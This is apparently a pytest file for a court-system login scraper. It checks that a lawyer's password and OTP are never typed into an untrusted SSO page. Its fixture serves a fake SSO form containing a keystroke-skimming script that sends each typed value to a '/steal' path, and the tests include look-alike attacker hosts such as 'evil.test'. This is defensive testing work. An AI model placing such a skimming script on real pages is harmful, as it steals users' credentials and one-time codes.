"""Where a lawyer's password and codes may go: only the tribunal's configured SSO (issue 17, item 1).

A hostile "tribunal" on a loopback address sends the browser to its own "SSO" (another loopback
address) whose form reports every keystroke and every submission. The login must stop with
``SSO_NAO_CONFIAVEL`` before any field is filled, whatever the tribunal URL says.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from plugins.pje_trt.login import on_sso
from sinesys_spiders.core.db.engine import session_scope
from sinesys_spiders.core.db.repositories.tribunais_config import TribunaisConfigRepository
from sinesys_spiders.core.domain import Grau, Tribunal
from sinesys_spiders.core.errors import SsoNaoConfiavel

if TYPE_CHECKING:
    from conftest import LoginWorld

_TRIBUNAL_HOST = "127.0.2.1"
_SSO_HOST = "127.0.2.2"


class _Hostil:
    """Two loopback servers: a fake login.seam and a fake SSO form that records what it receives."""

    def __init__(self) -> None:
        self.recebido: list[str] = []
        hostil = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:  # quiet
                pass

            def _send(self, body: str) -> None:
                data = body.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                if self.path.startswith("/steal"):
                    hostil.recebido.append(self.path)
                    self._send("ok")
                elif self.server is hostil.tribunal:
                    sso = f"http://{_SSO_HOST}:{hostil.sso.server_address[1]}/auth/realms/pje/login"
                    self._send(f'<html><body><a id="btnSsoPdpj" href="{sso}">Entrar com PDPJ</a></body></html>')
                else:
                    self._send(
                        "<html><body><form method=post action=/auth/realms/pje/login>"
                        "<input id=username name=username><input id=password name=password type=password>"
                        "<input id=otp name=otp><button id=kc-login type=submit>Entrar</button></form>"
                        "<script>document.querySelectorAll('input').forEach(i => i.addEventListener('input',"
                        " () => fetch('/steal?v=' + encodeURIComponent(i.value))));</script></body></html>"
                    )

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                hostil.recebido.append(self.rfile.read(length).decode())
                self._send("<html><body><input id=otp name=otp></body></html>")

        self.tribunal = http.server.ThreadingHTTPServer((_TRIBUNAL_HOST, 0), Handler)
        self.sso = http.server.ThreadingHTTPServer((_SSO_HOST, 0), Handler)
        for server in (self.tribunal, self.sso):
            threading.Thread(target=server.serve_forever, daemon=True).start()

    @property
    def base_url(self) -> str:
        return f"http://{_TRIBUNAL_HOST}:{self.tribunal.server_address[1]}"

    @property
    def sso_url(self) -> str:
        return f"http://{_SSO_HOST}:{self.sso.server_address[1]}/auth/realms/pje"

    def close(self) -> None:
        for server in (self.tribunal, self.sso):
            server.shutdown()
            server.server_close()


@pytest.fixture
def hostil() -> Iterator[_Hostil]:
    servers = _Hostil()
    yield servers
    servers.close()


def test_on_sso_compares_scheme_host_and_port() -> None:
    """The SSO is recognised by its scheme, host and port only: a look-alike host or http is not it."""
    real = "https://sso.cloud.pje.jus.br"
    assert on_sso("https://sso.cloud.pje.jus.br/auth/realms/pje/login-actions/authenticate?x=1", real)
    assert on_sso("https://sso.cloud.pje.jus.br:443/auth", real)
    assert not on_sso("http://sso.cloud.pje.jus.br/auth", real)
    assert not on_sso("https://sso.cloud.pje.jus.br.evil.test/auth", real)
    assert not on_sso("https://sso.cloud.pje.jus.br:8443/auth", real)
    assert not on_sso("https://evil.test/sso.cloud.pje.jus.br", real)
    assert not on_sso("data:text/html,<input id=password>", real)
    assert on_sso("http://127.0.0.1:8800/auth/realms/pje/x", "http://127.0.0.1:8800/auth/realms/pje")


@pytest.mark.requires_browser
@pytest.mark.e2e
@pytest.mark.parametrize("configurado", ["padrao", "sso_legitimo"])
async def test_a_tribunal_url_pointing_elsewhere_never_receives_the_password(
    world: LoginWorld, hostil: _Hostil, configurado: str
) -> None:
    """A changed tribunal URL whose button leads to another host: SSO_NAO_CONFIAVEL, nothing typed or sent.

    With no SSO override the configured SSO is the real ``sso.cloud.pje.jus.br``; with the sandbox's own
    SSO configured, the hostile host is still not it.
    """
    user = world.sandbox.take_user()
    credencial_id = world.credencial(user, Tribunal("TRT3"), Grau.PRIMEIRO_GRAU)
    with session_scope(factory=world.factory) as session:
        TribunaisConfigRepository(session).set_override(
            tribunal=Tribunal("TRT3"),
            grau=Grau.PRIMEIRO_GRAU,
            base_url=hostil.base_url,
            sso_url=None if configurado == "padrao" else world.sandbox.sso_url,
        )
    manager = world.manager()
    with pytest.raises(SsoNaoConfiavel) as info:
        await manager.get(credencial_id)

    assert info.value.code == "SSO_NAO_CONFIAVEL"
    assert f"{_SSO_HOST}" in info.value.message
    assert hostil.recebido == []  # no keystroke, no form submission reached the hostile host
    assert user.senha not in info.value.message
    assert user.cpf not in info.value.message
    assert credencial_id in manager.falhas  # permanent: not retried against the same host


@pytest.mark.requires_browser
@pytest.mark.e2e
async def test_the_sandbox_sso_is_used_only_when_configured(world: LoginWorld) -> None:
    """The sandbox tribunal without ``sso_url``: its SSO is not the real one, so the login stops untyped.

    Before this check, any host other than the tribunal's was taken for the SSO; the ``--sso-url``
    override was stored and never read.
    """
    user = world.sandbox.take_user()
    credencial_id = world.credencial(user, Tribunal("TRT3"), Grau.SEGUNDO_GRAU)
    with session_scope(factory=world.factory) as session:
        TribunaisConfigRepository(session).set_override(tribunal=Tribunal("TRT3"), grau=Grau.SEGUNDO_GRAU, sso_url=None)
    before = world.logins(user), world.login_failures(user)
    with pytest.raises(SsoNaoConfiavel):
        await world.manager().get(credencial_id)
    assert (world.logins(user), world.login_failures(user)) == before
    assert world.otp(user) == (0, 0)
